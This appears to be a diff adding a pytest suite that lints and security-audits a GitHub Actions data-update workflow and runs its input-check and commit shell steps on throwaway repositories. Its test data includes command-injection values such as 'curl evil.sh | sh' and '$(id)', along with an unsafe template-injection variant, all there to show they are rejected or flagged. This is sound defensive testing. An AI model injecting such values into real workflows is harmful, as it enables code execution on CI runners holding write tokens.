@@ -1,0 +1,318 @@
+""".github/workflows/update.yml: linted offline, its key properties asserted, its scripts run.
+
+check-jsonschema validates it against GitHub's workflow schema and zizmor audits it (template
+injection, permissions, persisted credentials, unpinned actions, secrets outside an
+environment). The shell steps that guard the run are executed here with bash, as the runner
+would, on a throwaway git repository.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+ROOT = Path(__file__).resolve().parent.parent
+WORKFLOW = ROOT / ".github" / "workflows" / "update.yml"
+BIN = Path(sys.executable).parent
+PINNED = re.compile(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40}$")
+
+
+def workflow() -> dict[str, Any]:
+    return yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
+
+
+def triggers() -> dict[str, Any]:
+    document = workflow()
+    return document["on"] if "on" in document else document[True]  # YAML 1.1 reads `on` as true
+
+
+def steps() -> list[dict[str, Any]]:
+    return workflow()["jobs"]["update"]["steps"]
+
+
+def step(name: str) -> dict[str, Any]:
+    return next(s for s in steps() if s.get("name") == name)
+
+
+def run_step(
+    name: str, env: dict[str, str], cwd: Path | None = None
+) -> subprocess.CompletedProcess[str]:
+    """The step's script under bash as GitHub runs `shell: bash` (-e, pipefail)."""
+    return subprocess.run(
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step(name)["run"]],
+        cwd=cwd,
+        env={"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/tmp"), **env},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+def check_jsonschema(path: Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", str(path)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+def zizmor_findings(path: Path) -> list[str]:
+    """The audits zizmor's strictest persona reports, offline."""
+    result = subprocess.run(
+        [BIN / "zizmor", "--offline", "--persona", "auditor", "--format", "json", str(path)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.stdout.strip(), result.stderr
+    return sorted({finding["ident"] for finding in json.loads(result.stdout)})
+
+
+# Linters
+
+
+def test_workflow_matches_githubs_schema():
+    result = check_jsonschema(WORKFLOW)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "ok -- validation done" in result.stdout
+
+
+def test_zizmor_finds_nothing_even_as_an_auditor():
+    assert zizmor_findings(WORKFLOW) == []
+
+
+@pytest.mark.parametrize(
+    ("original", "broken", "finding"),
+    [
+        (  # a dispatch input pasted into a script: shell injection by whoever dispatches
+            'run: make update AS_OF="$AS_OF"',
+            'run: make update AS_OF="${{ inputs.as_of }}"',
+            "template-injection",
+        ),
+        (
+            "persist-credentials: false # only the push step gets the token",
+            "persist-credentials: true",
+            "artipacked",
+        ),
+        (
+            "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
+            "actions/checkout@v7",
+            "unpinned-uses",
+        ),
+        ("permissions: {}", "permissions: write-all", "excessive-permissions"),
+        ("    environment: dataset\n", "", "secrets-outside-env"),
+    ],
+)
+def test_zizmor_catches_a_broken_workflow(tmp_path, original, broken, finding):
+    text = WORKFLOW.read_text(encoding="utf-8")
+    assert original in text
+    path = tmp_path / "update.yml"
+    path.write_text(text.replace(original, broken, 1), encoding="utf-8")
+    assert finding in zizmor_findings(path)
+
+
+@pytest.mark.parametrize(
+    ("original", "broken"),
+    [
+        ("runs-on: ubuntu-24.04", "run-on: ubuntu-24.04"),
+        ('- cron: "17 2 * * *"', '- crontab: "17 2 * * *"'),
+        ("cancel-in-progress: false", "cancel-in-progress: [false]"),
+    ],
+)
+def test_check_jsonschema_catches_a_broken_workflow(tmp_path, original, broken):
+    text = WORKFLOW.read_text(encoding="utf-8")
+    assert original in text
+    path = tmp_path / "update.yml"
+    path.write_text(text.replace(original, broken, 1), encoding="utf-8")
+    result = check_jsonschema(path)
+    assert result.returncode == 1
+    assert "Schema validation errors were encountered" in result.stdout + result.stderr
+
+
+# Properties
+
+
+def test_runs_daily_and_on_dispatch_with_as_of_and_lookback():
+    (schedule,) = triggers()["schedule"]
+    minute, hour, day, month, weekday = schedule["cron"].split()
+    assert (day, month, weekday) == ("*", "*", "*")
+    assert 0 <= int(minute) < 60 and 0 <= int(hour) < 24
+    inputs = triggers()["workflow_dispatch"]["inputs"]
+    assert set(inputs) == {"as_of", "lookback"}
+    assert all(
+        not spec.get("required", False) and spec["default"] == "" for spec in inputs.values()
+    )
+
+
+def test_two_runs_never_overlap_and_none_is_cancelled():
+    concurrency = workflow()["concurrency"]
+    # One fixed group: runs of any branch or trigger queue behind each other.
+    assert "${{" not in concurrency["group"]
+    assert concurrency["cancel-in-progress"] is False
+
+
+def test_least_privilege_pinned_actions_and_no_expression_in_scripts():
+    document = workflow()
+    assert document["permissions"] == {}
+    assert document["jobs"]["update"]["permissions"] == {"contents": "write"}
+    assert document["jobs"]["update"]["environment"] == "dataset"
+    uses = [s["uses"] for s in steps() if "uses" in s]
+    assert uses and all(PINNED.match(u) for u in uses)
+    assert all("${{" not in s.get("run", "") for s in steps())
+
+
+def test_update_then_publish_then_the_commit_only_when_something_changed():
+    runs = [s.get("run", "") for s in steps()]
+    update = runs.index('make update AS_OF="$AS_OF" LOOKBACK_DAYS="$LOOKBACK_DAYS"')
+    publish = runs.index("make publish")
+    stage = steps().index(step("Stage symbols.json, dvc.lock and the metrics"))
+    commit = steps().index(step("Commit and push"))
+    assert update < publish < stage < commit
+    assert steps()[update]["env"]["AS_OF"] == "${{ inputs.as_of }}"
+    assert steps()[update]["env"]["LOOKBACK_DAYS"] == "${{ inputs.lookback }}"
+    assert steps()[commit]["if"] == "steps.changes.outputs.changed == 'true'"
+    assert "[skip ci]" in steps()[commit]["run"]
+    # Nothing after a failure but the report: no publish, no commit (no `if: always()`).
+    assert [s["name"] for s in steps() if "if" in s] == ["Commit and push", "Report the failure"]
+    assert steps()[-1]["if"] == "failure()"
+
+
+# The guard steps, run
+
+
+AS_OF_ERROR = "::error::as_of must be a date like 2024-06-01, or empty for today\n"
+LOOKBACK_ERROR = "::error::lookback must be a whole number of days (at least 1), or empty\n"
+
+
+@pytest.mark.parametrize(
+    ("as_of", "lookback", "error"),
+    [
+        ("", "", None),
+        ("2024-06-01", "40", None),
+        ("2024-06-01; curl evil.sh | sh", "", AS_OF_ERROR),
+        ("$(id)", "", AS_OF_ERROR),
+        ("", "0", LOOKBACK_ERROR),
+        ("", "20 days", LOOKBACK_ERROR),
+    ],
+)
+def test_dispatch_inputs_are_checked_before_anything_runs(as_of, lookback, error):
+    result = run_step("Check the dispatch inputs", {"AS_OF": as_of, "LOOKBACK_DAYS": lookback})
+    assert result.returncode == (0 if error is None else 1), result.stdout + result.stderr
+    assert result.stdout == (error or "")
+
+
+@pytest.mark.parametrize(
+    ("url", "key", "ok"),
+    [
+        ("s3://bucket/vision", "key", True),
+        ("", "key", False),
+        ("../../vision-availability-dvc-storage", "key", False),
+        ("s3://", "key", False),
+        ("s3://bucket/vision", "", False),
+    ],
+)
+def test_a_run_without_an_s3_remote_fails_saying_what_to_set(url, key, ok):
+    result = run_step(
+        "Check the DVC remote settings",
+        {"DVC_REMOTE_URL": url, "AWS_ACCESS_KEY_ID": key, "AWS_SECRET_ACCESS_KEY": "secret"},
+    )
+    assert (result.returncode == 0) is ok
+    if not ok:
+        assert result.stdout.startswith(
+            "::error::no S3 DVC remote: set the variable DVC_REMOTE_URL"
+        )
+
+
+@pytest.fixture
+def checkout(tmp_path) -> tuple[Path, Path]:
+    """A clone of a bare 'hosted' repository holding symbols.json, dvc.lock and params.yaml."""
+    hosted, work = tmp_path / "hosted.git", tmp_path / "work"
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@localhost"]
+    subprocess.run(
+        ["git", "init", "--quiet", "--bare", "--initial-branch=main", hosted], check=True
+    )
+    subprocess.run(["git", "clone", "--quiet", hosted, work], check=True, capture_output=True)
+    for name in ("symbols.json", "dvc.lock", "params.yaml"):
+        (work / name).write_text(f"{name} v1\n", encoding="utf-8")
+    subprocess.run(["git", "add", "."], cwd=work, check=True)
+    subprocess.run([*git, "commit", "--quiet", "-m", "v1"], cwd=work, check=True)
+    subprocess.run(["git", "push", "--quiet", "origin", "HEAD:main"], cwd=work, check=True)
+    return hosted, work
+
+
+def stage_changes(work: Path, tmp_path: Path) -> str:
+    output = tmp_path / "github_output"
+    output.write_text("", encoding="utf-8")
+    result = run_step(
+        "Stage symbols.json, dvc.lock and the metrics", {"GITHUB_OUTPUT": str(output)}, work
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    return output.read_text(encoding="utf-8")
+
+
+def staged(work: Path) -> list[str]:
+    names = subprocess.run(
+        ["git", "diff", "--cached", "--name-only"], cwd=work, capture_output=True, text=True
+    )
+    return names.stdout.split()
+
+
+def test_nothing_changed_means_no_commit(checkout, tmp_path):
+    _, work = checkout
+    assert stage_changes(work, tmp_path) == "changed=false\n"
+
+
+def test_only_symbols_dvc_lock_and_metrics_are_committed(checkout, tmp_path):
+    _, work = checkout
+    (work / "dvc.lock").write_text("dvc.lock v2\n", encoding="utf-8")
+    (work / "metrics").mkdir()
+    (work / "metrics" / "validation.json").write_text("{}\n", encoding="utf-8")
+    (work / "params.yaml").write_text("edited by hand\n", encoding="utf-8")
+    (work / "logs").mkdir()
+    (work / "logs" / "pipeline.log").write_text("log\n", encoding="utf-8")
+    assert stage_changes(work, tmp_path) == "changed=true\n"
+    assert staged(work) == ["dvc.lock", "metrics/validation.json"]
+
+
+def test_the_commit_is_pushed_with_skip_ci_by_the_bot(checkout, tmp_path):
+    hosted, work = checkout
+    (work / "symbols.json").write_text("symbols.json v2\n", encoding="utf-8")
+    assert stage_changes(work, tmp_path) == "changed=true\n"
+    token_url = "https://x-access-token:t0ken@github.example/owner/repo.git"
+    result = run_step(
+        "Commit and push",
+        {
+            "AS_OF": "2024-06-01",
+            "GH_TOKEN": "t0ken",
+            "GITHUB_SERVER_URL": "https://github.example",
+            "GITHUB_REPOSITORY": "owner/repo",
+            "GITHUB_REF": "refs/heads/main",
+            # The push goes to the hosted repository's URL with the token; send it here instead.
+            "GIT_CONFIG_COUNT": "1",
+            "GIT_CONFIG_KEY_0": f"url.{hosted}.insteadOf",
+            "GIT_CONFIG_VALUE_0": token_url,
+        },
+        work,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    head = subprocess.run(
+        ["git", "log", "-1", "--format=%an|%s", "main"],
+        cwd=hosted,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert head.stdout.strip() == "github-actions[bot]|data: update as of 2024-06-01 [skip ci]"
+    shown = subprocess.run(
+        ["git", "show", "main:symbols.json"], cwd=hosted, capture_output=True, text=True
+    )
+    assert shown.stdout == "symbols.json v2\n"
